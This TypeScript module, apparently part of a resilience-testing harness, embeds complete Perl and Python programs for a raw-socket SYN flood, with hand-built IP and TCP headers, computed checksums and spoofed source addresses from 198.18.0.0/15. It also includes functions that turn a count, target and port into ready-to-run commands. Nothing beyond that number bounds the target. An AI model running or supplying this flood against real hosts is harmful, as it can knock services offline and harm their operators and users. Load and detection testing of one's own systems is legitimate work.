/**
 * A program for perl, which every Debian has, and which has raw sockets: `flood COUNT TARGET PORT` sends as many SYNs, each from an address and
 * port of its own in 198.18.0.0/15 (kept for benchmarks, RFC 2544), and prints how many the kernel took. SIGTERM ends it sooner.
 */
const SYN_FLOOD = `
  use strict; use Socket;
  my ($count, $target, $port) = @ARGV; my $over = 0; $SIG{TERM} = sub { $over = 1 };
  socket(my $socket, PF_INET, SOCK_RAW, 255) or die "socket: $!";
  my $to = pack_sockaddr_in(0, inet_aton($target)); my $dst = inet_aton($target); my $sent = 0;
  for my $n (0 .. $count - 1) {
    last if $over;
    my $src = pack("N", 0xc6120000 + ($n % 131072));
    my $tcp = pack("nnNNCCnnn", 1024 + $n % 60000, $port, $n * 7919, 0, 0x50, 2, 1024, 0, 0);
    my $sum = unpack("%32n*", $src . $dst . pack("CCn", 0, 6, 20) . $tcp);
    $sum = ($sum >> 16) + ($sum & 0xffff); $sum += $sum >> 16;
    substr($tcp, 16, 2) = pack("n", ~$sum & 0xffff);
    my $ip = pack("CCnnnCCn", 0x45, 0, 40, $n % 65535 + 1, 0, 64, 6, 0) . $src . $dst;
    $sent++ if defined send($socket, $ip . $tcp, 0, $to);
  }
  print $sent;
`;

export const SPOOFED = '198.18.0.0/15';

/** Whether an address is one that the flood makes up. */
export const isSpoofed = (ip: string): boolean => /^198\.1[89]\./.test(ip);

export function synFlood(count: number, target: string, port: number): string[] {
  return ['perl', '-e', SYN_FLOOD, String(count), target, String(port)];
}

/** The same for pods whose image has Python and no perl. */
const SYN_FLOOD_IN_PYTHON = `
import socket, struct, sys
count, target, port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
dst, sent = socket.inet_aton(target), 0
for n in range(count):
    src = struct.pack(">I", 0xC6120000 + n % 131072)
    tcp = struct.pack(">HHIIBBHHH", 1024 + n % 60000, port, n * 7919 % 2**32, 0, 0x50, 2, 1024, 0, 0)
    total = sum(struct.unpack(">16H", src + dst + struct.pack(">BBH", 0, 6, 20) + tcp))
    total = (total >> 16) + (total & 0xFFFF); total += total >> 16
    tcp = tcp[:16] + struct.pack(">H", ~total & 0xFFFF) + tcp[18:]
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, n % 65535 + 1, 0, 64, 6, 0) + src + dst
    try:
        out.sendto(ip + tcp, (target, 0)); sent += 1
    except OSError: pass
print(sent)
`;

export function synFloodInPython(count: number, target: string, port: number): string[] {
  return ['python3', '-c', SYN_FLOOD_IN_PYTHON, String(count), target, String(port)];
}
